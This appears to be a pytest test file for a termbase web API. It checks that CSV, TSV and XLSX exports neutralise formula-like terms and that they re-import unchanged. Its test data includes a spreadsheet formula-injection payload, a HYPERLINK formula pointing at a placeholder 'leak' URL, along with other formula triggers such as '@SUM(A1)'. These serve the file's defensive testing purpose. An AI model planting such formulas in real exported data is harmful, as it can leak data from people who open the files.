"""Tabular exports over HTTP: formula-like terms are neutralised, and come back unchanged."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest

from tests.helpers import bearer

HYPERLINK = '=HYPERLINK("http://example.invalid/?leak","click")'
TERMS = [HYPERLINK, "\uff1d1+1", "+86", "-ize", "@SUM(A1)", "\uff0bx"]


@pytest.fixture
def stored(client, tokens) -> None:
    body = {
        "ref": "formulas",
        "terms": [
            {"lang": "zh-Hant", "text": "硬聯通", "status": "preferred"},
            *({"lang": "en", "text": t, "status": "admitted"} for t in TERMS),
        ],
    }
    response = client.post("/api/concepts", json=body, headers=bearer(tokens["editor"]))
    assert response.status_code == 201, response.get_data(as_text=True)


def _export(client, fmt: str) -> bytes:
    response = client.get(f"/api/termbase/export/{fmt}?source_lang=zh-Hant&target_lang=en")
    assert response.status_code == 200, response.get_data(as_text=True)
    return response.data


def test_csv_cells_start_with_an_apostrophe(client, stored) -> None:
    rows = list(csv.reader(io.StringIO(_export(client, "csv").decode("utf-8-sig"))))
    terms = {row[2] for row in rows[1:]}
    assert terms == {"硬聯通", *("'" + t for t in TERMS)}


def test_tsv_fields_start_with_an_apostrophe(client, tokens) -> None:
    for target in (HYPERLINK, "\uff1d1+1"):
        body = {
            "terms": [
                {"lang": "zh-Hant", "text": f"術語{len(target)}", "status": "preferred"},
                {"lang": "en", "text": target, "status": "preferred"},
            ]
        }
        client.post("/api/concepts", json=body, headers=bearer(tokens["editor"]))
    lines = _export(client, "tsv").decode("utf-8").splitlines()[1:]
    targets = sorted(line.split("\t")[1] for line in lines)
    assert targets == sorted(["'" + HYPERLINK, "'\uff1d1+1"])


def test_xlsx_cells_are_text(client, stored) -> None:
    sheet = openpyxl.load_workbook(io.BytesIO(_export(client, "xlsx"))).active
    cells = {c.value: c for c in sheet["C"][1:]}
    for text in TERMS:
        assert cells[text].data_type == "s" and cells[text].quotePrefix, text


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "tsv"])
def test_an_export_imports_back_unchanged(client, tokens, stored, fmt: str) -> None:
    query = "&source_lang=zh-Hant&target_lang=en" if fmt == "tsv" else ""
    response = client.post(
        f"/api/termbase/import?dry_run=1{query}",
        data=_export(client, fmt),
        headers={**bearer(tokens["editor"]), "X-Filename": f"glossary.{fmt}"},
    )
    report = response.get_json()
    assert response.status_code == 200, report
    if fmt == "tsv":
        # OmegaT's two columns hold one English rendering: it merges into the stored concept.
        assert [(e["outcome"], e["added"]) for e in report["entries"]] == [("unchanged", [])]
    else:
        assert report["counts"] == {
            "entries": 1,
            "taken": 0,
            "merged": 0,
            "unchanged": 1,
            "skipped": 0,
        }, report
